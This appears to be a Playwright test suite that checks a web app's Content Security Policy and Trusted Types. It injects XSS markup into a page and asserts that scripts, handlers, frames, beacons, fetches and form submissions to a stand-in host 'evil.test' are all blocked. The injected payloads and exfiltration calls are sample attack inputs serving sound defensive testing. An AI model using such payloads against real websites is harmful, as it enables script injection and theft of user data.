import type { Page } from '@playwright/test';
import { expect, test, type NewPage } from './fixtures.ts';
import { hydrate } from './scenes/scene.ts';

test.use({ mayBreakPolicy: true });

const evil = 'http://evil.test';

/** The injected code that ran and the directives that blocked something, recorded in the page. */
interface RecordedAttempts {
  ran: unknown[];
  refused: string[];
}

/**
 * Opens a page with injected markup, as an XSS hole in the server would deliver it.
 * @returns also the requests that reached the other site
 */
async function openWith(
  newPage: NewPage,
  markup: string,
): Promise<{ page: Page; seen: () => Promise<RecordedAttempts>; evilRequests: string[] }> {
  const { page } = await newPage();
  const evilRequests: string[] = [];
  await page.addInitScript(() => {
    const seen: RecordedAttempts = { ran: [], refused: [] };
    Object.assign(globalThis, { seen });
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      seen.refused.push(effectiveDirective),
    );
  });
  await page.route('**/about', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('<main', () => `${markup}<main`);
    await route.fulfill({ response, body });
  });
  await page.route(`${evil}/**`, async (route) => {
    evilRequests.push(route.request().url());
    await route.fulfill({ body: 'seen.ran.push("from elsewhere")' });
  });
  await page.goto('/about');
  return {
    page,
    evilRequests,
    seen: () => page.evaluate(() => (globalThis as unknown as { seen: RecordedAttempts }).seen),
  };
}

test('injected markup runs nothing, loads nothing and sends nothing', async ({ newPage }) => {
  const { page, seen, evilRequests } = await openWith(
    newPage,
    `
    <script>seen.ran.push('inline')</script>
    <img src="/favicon.ico" onload="seen.ran.push('handler')">
    <script src="${evil}/a.js"></script>
    <style>main { display: none }</style>
    <p style="color: red">red</p>
    <link rel="stylesheet" href="${evil}/a.css">
    <img src="${evil}/a.gif?who">
    <iframe src="${evil}/"></iframe>
    <object data="${evil}/a.swf"></object>
    <base href="${evil}/">
    <a id="go" href="javascript:seen.ran.push('link')">Go</a>`,
  );
  await hydrate(page);
  await page.evaluate((address) => {
    fetch(address).catch(() => {});
    navigator.sendBeacon(address, 'typed');
    document.querySelector<HTMLElement>('#go')?.click();
  }, `${evil}/`);
  await expect
    .poll(async () => [...new Set((await seen()).refused)].toSorted())
    .toEqual([
      'base-uri',
      'connect-src',
      'frame-src',
      'img-src',
      'object-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ]);
  await page.evaluate((address) => {
    const form = document.createElement('form');
    form.action = address;
    document.body.append(form);
    form.submit();
  }, `${evil}/`);
  await expect.poll(async () => (await seen()).refused).toContain('form-action');
  expect((await seen()).ran).toEqual([]);
  expect(evilRequests).toEqual([]);
});

test('text cannot become markup or script (Trusted Types)', async ({ newPage }) => {
  const { page } = await newPage({ serviceWorkers: 'allow' });
  await page.goto('/about');
  await hydrate(page);
  const succeeded = await page.evaluate(async () => {
    interface Policies {
      createPolicy(name: string, rules: object): void;
    }
    const { trustedTypes } = window as unknown as { trustedTypes: Policies };
    const rules = { createHTML: (text: string) => text };
    const attempts: Record<string, () => unknown> = {
      innerHTML: () => (document.body.innerHTML = '<img src=x>'),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
      'document.write': () => document.write('<b>x</b>'),
      srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
      DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
      'script text': () => (document.createElement('script').text = '1'),
      'script address': () => (document.createElement('script').src = '/assets/a.js'),
      'event handler': () => document.body.setAttribute('onclick', '1'),
      // oxlint-disable-next-line eslint/no-eval -- the test expects that it fails
      eval: () => globalThis.eval('1'),
      // oxlint-disable-next-line typescript/no-implied-eval -- the test expects that it fails
      Function: () => new Function('1')(),
      'another worker': () => navigator.serviceWorker.register('/assets/a.js'),
      'another policy': () => trustedTypes.createPolicy('mine', rules),
      'the default policy again': () => trustedTypes.createPolicy('default', rules),
    };
    // Playwright's own evaluation may use eval. Code that runs later is restricted like the page's.
    await new Promise((resolve) => setTimeout(resolve));
    const found: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        await attempt();
        found.push(name);
      } catch {}
    }
    return found;
  });
  expect(succeeded).toEqual([]);
});

test('a CSP violation is reported without personal data', async ({ newPage, school }) => {
  await openWith(newPage, `<img src="${evil}/a.gif?who=asha">`);
  const metrics = () => fetch(`${school.url}/metrics`).then((reply) => reply.text());
  await expect.poll(metrics).toMatch(/browser_refusals_total\{directive="img-src"\} [1-9]/);
});

test(
  'style attributes apply before hydration and are on their elements after it',
  { tag: '@long' },
  async ({ newPage }) => {
    /** What the rules of style attributes say, and what their elements then have. */
    const withRules = (page: Page) =>
      page.evaluate(() => {
        const rules = new Map(
          Array.from(document.styleSheets, (sheet) => [...sheet.cssRules])
            .flat()
            .map((rule) => [(rule as CSSStyleRule).selectorText, (rule as CSSStyleRule).style] as const),
        );
        const shown = [...document.querySelectorAll<HTMLElement>('[data-style]')].filter((element) =>
          element.checkVisibility(),
        );
        return shown.map((element) => {
          const names = [...(rules.get(`:not(#_)[data-style="${element.dataset['style']}"]`) ?? [])];
          return names.map((name) => `${name}: ${getComputedStyle(element).getPropertyValue(name)}`);
        });
      });
    const withStyles = (page: Page) =>
      page.evaluate(() =>
        Array.from(document.querySelectorAll<HTMLElement>('body [style]'), (element) =>
          [...element.style].map((name) => `${name}: ${getComputedStyle(element).getPropertyValue(name)}`),
        ),
      );
    const { page } = await newPage({ reducedMotion: 'reduce' });
    const { page: withoutScript } = await newPage({
      reducedMotion: 'reduce',
      javaScriptEnabled: false,
    });
    for (const path of ['/', '/painting', '/Reviews']) {
      await withoutScript.goto(path);
      await page.goto(path);
      await hydrate(page);
      const before = await withRules(withoutScript);
      expect(before.flat().length).toBeGreaterThan(8);
      const after = await withStyles(page);
      for (const style of before) expect(after).toContainEqual(style);
      await expect(page.locator('[data-style]')).toHaveCount(0);
    }
  },
);
